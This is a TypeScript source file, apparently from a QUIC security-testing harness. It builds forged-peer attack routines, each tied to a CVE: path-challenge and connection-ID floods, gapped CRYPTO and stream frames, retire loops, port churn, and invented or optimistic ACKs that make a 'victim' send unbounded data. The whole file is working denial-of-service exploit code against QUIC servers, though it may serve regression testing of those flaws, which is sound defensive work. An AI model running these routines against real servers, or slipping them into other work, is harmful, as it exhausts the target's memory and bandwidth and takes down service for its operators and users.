import type { Socket } from 'node:dgram';
import {
  ack,
  crypto,
  maxData,
  maxStreamData,
  newConnectionId,
  pathChallenge,
  ping,
  stream,
} from '../forge/frames.js';
import { bound, type ForgedPeer } from '../forge/forged-peer.js';
import { sleep } from '../../../waiting.js';

/** Packets that leave before the sender lets others run. */
const BURST_PACKETS = 20;
const ONE = Buffer.of(1);

/** Sends what `make` gives, in bursts, until `isEnough` or for so many packets. */
async function flood(
  peer: ForgedPeer,
  packetsMax: number,
  isEnough: () => boolean,
  make: () => readonly Buffer[],
): Promise<void> {
  peer.isAcknowledging = false;
  for (let sent = 0; sent < packetsMax && !isEnough(); sent += BURST_PACKETS) {
    for (let count = 0; count < BURST_PACKETS; count += 1) peer.send(make());
    await sleep(1);
  }
}

const many = (count: number, make: () => Buffer): Buffer[] => Array.from({ length: count }, make);

/** CVE-2023-6193: each is kept until it is answered, and answers wait for acknowledgements. */
export function pathChallenges(
  peer: ForgedPeer,
  packetsMax: number,
  isEnough: () => boolean,
): Promise<void> {
  return flood(peer, packetsMax, isEnough, () => many(140, () => pathChallenge(Buffer.alloc(8))));
}

/** CVE-2024-1410: ids that are retired as they come; each is kept until its end is told. */
export function retiredIds(
  peer: ForgedPeer,
  packetsMax: number,
  isEnough: () => boolean,
): Promise<void> {
  peer.send([newConnectionId(2 ** 40, 2 ** 40)]);
  let sequence = 1;
  return flood(peer, packetsMax, isEnough, () =>
    many(35, () => {
      sequence += 1;
      const id = Buffer.alloc(4);
      id.writeUInt32BE(sequence);
      return newConnectionId(sequence, 0, id, Buffer.alloc(16));
    }),
  );
}

/** CVE-2024-1765: pieces of CRYPTO data with gaps between them, far from what TLS waits for. */
export function cryptoFrames(
  peer: ForgedPeer,
  packetsMax: number,
  isEnough: () => boolean,
): Promise<void> {
  let offset = 100_000;
  return flood(peer, packetsMax, isEnough, () => many(100, () => crypto((offset += 3), ONE)));
}

/** No advisory for quiche: the same with the data of streams, within flow control. */
export function streamGaps(
  peer: ForgedPeer,
  packetsMax: number,
  isEnough: () => boolean,
): Promise<void> {
  let count = 0;
  const perStream = 500_000;
  return flood(peer, packetsMax, isEnough, () =>
    many(100, () => {
      count += 1;
      const id = 4 * Math.floor(count / perStream);
      return stream(id, 1 + 2 * (count % perStream), ONE);
    }),
  );
}

/** CVE-2025-7054, in one packet: the new path is given an id that is about to be retired. */
export async function retireLoop(peer: ForgedPeer): Promise<void> {
  const elsewhere = await bound();
  peer.send([newConnectionId(5, 5), newConnectionId(0, 0), ping()], elsewhere);
  await sleep(20);
  elsewhere.close();
}

/** The same after a clean second path was opened. */
export async function retireLoopOnSecondPath(peer: ForgedPeer): Promise<void> {
  const elsewhere = await bound();
  peer.listenOn(elsewhere);
  const token = Buffer.alloc(16, 7);
  const spare = Buffer.alloc(16, 8);
  peer.send([newConnectionId(1, 0, spare, token)]);
  await sleep(100);
  peer.send([ping()], elsewhere);
  await sleep(300);
  peer.send([newConnectionId(5, 5), newConnectionId(1, 0, spare, token), ping()], elsewhere);
  await sleep(20);
  elsewhere.close();
}

/** CVE-2026-12707: the first id from ever new addresses. */
export async function changingPorts(peer: ForgedPeer, packets: number): Promise<void> {
  const sockets: Socket[] = [];
  for (let count = 0; count < packets; count += 1) {
    const socket = sockets[count % 64] ?? (await bound());
    sockets[count % 64] = socket;
    peer.send([ping()], socket);
    if (count % BURST_PACKETS === 0) await sleep(1);
  }
  for (const socket of sockets) socket.close();
}

/** Makes a victim pour: it may send as much as it wants on one stream. */
export function makeItPour(peer: ForgedPeer): void {
  peer.send([maxData(2 ** 40), maxStreamData(0, 2 ** 40), stream(0, 0, ONE)]);
}

/** CVE-2025-4821: all packets are acknowledged, also those that were never sent. */
export async function inventedAcks(peer: ForgedPeer, isEnough: () => boolean): Promise<void> {
  peer.isAcknowledging = false;
  makeItPour(peer);
  while (!isEnough()) {
    peer.send([ack([[0, 2 ** 40]])]);
    await sleep(1);
  }
}

/** CVE-2025-4820: what was probably sent is acknowledged before it can have come. */
export async function optimisticAcks(peer: ForgedPeer, isEnough: () => boolean): Promise<void> {
  peer.isAcknowledging = false;
  let largest = 0;
  peer.onReceived = ({ packetNumber }) => (largest = Math.max(largest, packetNumber));
  makeItPour(peer);
  while (!isEnough()) {
    // Never more than was sent, but all of it, whether it came or not.
    if (largest > 0) peer.send([ack([[0, largest]])]);
    await sleep(1);
  }
}
